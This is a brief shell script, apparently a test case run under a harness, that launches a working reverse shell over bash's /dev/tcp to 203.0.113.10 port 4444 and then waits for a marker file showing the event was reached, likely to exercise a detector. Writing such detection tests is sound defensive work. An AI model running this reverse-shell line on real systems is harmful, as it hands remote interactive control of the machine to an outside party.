#!/bin/sh
. /opt/case/case.sh

bash -c 'exec 3<>/dev/tcp/203.0.113.10/4444; script -qec /bin/sh /dev/null <&3 >&3 2>&1' &
wait_for /tmp/reached
took_place
